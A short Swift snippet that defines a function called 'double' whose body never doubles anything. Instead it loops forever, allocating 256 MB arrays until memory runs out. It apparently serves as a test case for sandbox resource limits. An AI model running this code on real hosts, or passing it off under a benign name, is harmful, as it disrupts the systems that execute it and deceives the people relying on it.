func double(_ n: Int) -> Int {
  var all: [[UInt8]] = []
  while true { all.append([UInt8](repeating: 1, count: 1 << 28)) }
}
